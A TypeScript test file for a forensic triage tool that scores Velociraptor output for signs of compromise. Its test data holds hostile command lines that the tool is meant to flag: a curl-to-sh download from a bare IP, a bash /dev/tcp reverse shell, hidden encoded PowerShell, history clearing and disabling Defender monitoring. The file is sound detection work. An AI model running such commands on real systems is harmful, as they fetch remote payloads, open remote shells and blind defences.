/** The triage signals one at a time, on rows in the forms Velociraptor v0.77.2 emits (dfir/analysis/columns). */
import { describe, expect, it } from "vitest";
import { classifyPath, commandExecutable, inPublisherFolder, pathsIn } from "../../../dfir/collection/triage/paths.js";
import { commandFindings } from "../../../dfir/collection/triage/patterns.js";
import { NOTABLE, triageHost, type Scored } from "../../../dfir/collection/triage/score.js";

const NOW = Date.parse("2026-11-25T12:00:00Z");
const MS = "C=US, ST=Washington, L=Redmond, O=Microsoft Corporation, CN=Microsoft Corporation";
const signed = (subject: string) => ({ Trusted: "trusted", SubjectName: subject });
const unsigned = { Trusted: "untrusted", SubjectName: null };
const proc = (pid: number, ppid: number, name: string, exe: string, cmd: string, auth?: object) => ({ Pid: pid, Ppid: ppid, Name: name, Exe: exe, CommandLine: cmd, CreateTime: "2026-11-24T10:00:00Z", Authenticode: auth ?? null, Username: "CORP\\bob" });
const one = (results: Record<string, Record<string, unknown>[]>) => triageHost({ hostname: "HOST-1", results }, NOW).all;
const byIdentity = (all: Scored[], start: string) => all.find((x) => x.identity.startsWith(start))!;

describe("paths", () => {
  it("tells temp, user-writable and hidden folders apart from configuration dot-folders in a home", () => {
    expect(classifyPath("C:\\Users\\bob\\AppData\\Local\\Temp\\x.exe")).toEqual({ temp: true, userWritable: true, hidden: false });
    expect(classifyPath("C:\\ProgramData\\cache\\wsc.dll").userWritable).toBe(true);
    expect(classifyPath("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe")).toEqual({ temp: false, userWritable: false, hidden: false });
    expect(classifyPath("/tmp/.ICE-unix/.x/kworkerds")).toEqual({ temp: true, userWritable: false, hidden: true });
    expect(classifyPath("/home/deploy/.ssh/authorized_keys").hidden).toBe(false);
    expect(classifyPath("/home/deploy/.nvm/versions/node/v20.11.0/bin/node").hidden).toBe(false);
    expect(classifyPath("/Users/amy/Library/Application Support/.com.apple.sysd/sysd").hidden).toBe(true);
    expect(classifyPath("\\VOLUME{01d9a2b3c4d5e6f7-5e6f7a8b}\\USERS\\PUBLIC\\P.EXE").userWritable).toBe(true);
  });

  it("finds the executable and the payload paths in command lines", () => {
    expect(commandExecutable('"C:\\Program Files\\x\\y.exe" -a')).toBe("C:\\Program Files\\x\\y.exe");
    expect(commandExecutable("C:\\Program Files\\x\\y.exe -a")).toBe("C:\\Program Files\\x\\y.exe");
    expect(pathsIn("rundll32.exe C:\\ProgramData\\cache\\wsc.dll,Start")).toEqual(["C:\\ProgramData\\cache\\wsc.dll"]);
  });

  it("knows a publisher's own folder from its certificate's organisation", () => {
    expect(inPublisherFolder("C:\\Users\\bob\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe", MS)).toBe(true);
    expect(inPublisherFolder("C:\\Users\\bob\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe", "C=US, O=Zoom Video Communications, Inc., CN=Zoom Video Communications, Inc.")).toBe(true);
    expect(inPublisherFolder("C:\\Users\\bob\\AppData\\Local\\Temp\\Microsoft.exe", MS)).toBe(false);
  });
});

describe("command lines", () => {
  it("weighs a download run from a bare IP above an installer piped from a named host", () => {
    expect(commandFindings("curl -fsSL http://45.9.148.125/ldr.sh | sh")[0]).toMatchObject({ weight: 4 });
    expect(commandFindings("curl -fsSL https://get.docker.com | sh")[0]).toMatchObject({ weight: 2 });
    expect(commandFindings("wget https://github.com/prometheus/node_exporter/releases/download/v1.8.2/x.tar.gz")).toEqual([]);
  });

  it("flags encoded PowerShell but not `bash -e script`", () => {
    expect(commandFindings("powershell.exe -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBq")[0]!.reason).toBe("encoded command line");
    expect(commandFindings("/usr/bin/bash -e /home/runner/work/_temp/3c1f9a2e.sh")).toEqual([]);
  });

  it("flags reverse shells and anti-forensics", () => {
    expect(commandFindings("bash -i >& /dev/tcp/91.215.85.12/4444 0>&1")[0]!.weight).toBe(4);
    expect(commandFindings("history -c")[0]!.weight).toBe(4);
    expect(commandFindings("Set-MpPreference -DisableRealtimeMonitoring $true")[0]!.weight).toBe(4);
  });
});

describe("scoring a host", () => {
  it("raises an unsigned temp binary and its connection, not a signed vendor binary in its folder", () => {
    const all = one({
      "Windows.System.Pslist": [
        proc(600, 500, "services.exe", "C:\\Windows\\System32\\services.exe", "services.exe", signed(MS)),
        proc(4120, 3900, "OneDrive.exe", "C:\\Users\\bob\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe", "OneDrive.exe /background", signed(MS)),
        proc(6480, 6244, "upd.exe", "C:\\Users\\bob\\AppData\\Local\\Temp\\upd.exe", "upd.exe -silent", unsigned),
      ],
      "Windows.Network.Netstat": [{ Pid: 6480, Name: "upd.exe", Family: "IPv4", Type: "TCP", Status: "ESTAB", "Laddr.IP": "10.0.0.5", "Laddr.Port": 50000, "Raddr.IP": "185.220.101.47", "Raddr.Port": 443, Timestamp: "2026-11-24T10:00:01Z" }],
    });
    expect(byIdentity(all, "OneDrive.exe").score).toBe(0);
    const upd = byIdentity(all, "upd.exe");
    expect(upd.score).toBeGreaterThanOrEqual(NOTABLE);
    expect(upd.reasons).toEqual(expect.arrayContaining([expect.stringMatching(/temp folder/), expect.stringMatching(/authenticode: untrusted/)]));
    expect(all[0]!.kind).toBe("connection");
    expect(all[0]!.reasons.join(" ")).toMatch(/owned by upd\.exe.*public address 185\.220\.101\.47:443/);
  });

  it("lends Pslist's signature to the same file in a Run key and a prefetch entry", () => {
    const exe = "C:\\Users\\bob\\AppData\\Local\\Temp\\upd.exe";
    const all = one({
      "Windows.System.Pslist": [proc(6480, 1, "upd.exe", exe, "upd.exe", unsigned)],
      "Windows.Sys.StartupItems": [{ Name: "Updater", OSPath: "HKEY_USERS\\S-1-5-21-1-2-3-1001\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater", Details: `"${exe}" -silent`, Enabled: "enabled", Upload: "" }],
    });
    expect(byIdentity(all, "Updater").reasons).toEqual(expect.arrayContaining([expect.stringMatching(/authenticode: untrusted/)]));
  });

  it("reads Linux netstat's State and a crontab line whose command Velociraptor split into User", () => {
    const all = one({
      "Linux.Sys.Crontab/CronTabs": [{ Event: null, User: "curl", Minute: "*/10", Hour: "*", DayOfMonth: "*", Month: "*", DayOfWeek: "*", Command: "-fsSL http://45.9.148.125/ldr.sh | sh", Path: "/var/spool/cron/crontabs/www-data" }],
      "Linux.Network.Netstat/TCP4": [{ inode: "1", State: "Listening", uid: "0", ProcessInfo: null, LocalAddr: "0.0.0.0", LocalPort: 4444, RemoteAddr: "0.0.0.0", RemotePort: 0 }],
    });
    expect(byIdentity(all, "/var/spool/cron/crontabs/www-data").reasons[0]).toMatch(/downloads and runs a file from the bare IP address 45\.9\.148\.125/);
    expect(byIdentity(all, "no process").reasons).toEqual(["listening on uncommon port 4444"]);
  });

  it("raises a service by its signature and recent key, keeps old signed services quiet", () => {
    const svc = (name: string, exe: string, created: string, auth: object | null) => ({ State: "Running", Name: name, DisplayName: name, Status: "OK", Pid: 0, ExitCode: 0, StartMode: "Auto", PathName: `"${exe}"`, ServiceType: "Own Process", UserAccount: "LocalSystem", Created: created, AbsoluteExePath: exe, CertinfoServiceExe: auth });
    const all = one({ "Windows.System.Services": [svc("Spooler", "C:\\Windows\\System32\\spoolsv.exe", "2026-01-10T00:00:00Z", signed(MS)), svc("UpdSvc", "C:\\Users\\Public\\upd.exe", "2026-11-24T08:15:30Z", unsigned)] });
    expect(byIdentity(all, "Spooler").score).toBe(0);
    expect(byIdentity(all, "UpdSvc").reasons).toEqual(["not signed by a trusted publisher (authenticode: untrusted)", "runs from a user-writable folder (C:\\Users\\Public\\upd.exe)", "service key written 2026-11-24 (1 days before collection)"]);
  });

  it("lists results it has no reader for instead of scoring them", () => {
    const t = triageHost({ hostname: "H", results: { "Windows.Forensics.SRUM/Execution Stats": [{ x: 1 }] } }, NOW);
    expect(t.unread).toEqual(["Windows.Forensics.SRUM/Execution Stats"]);
    expect(t.all).toEqual([]);
  });
});
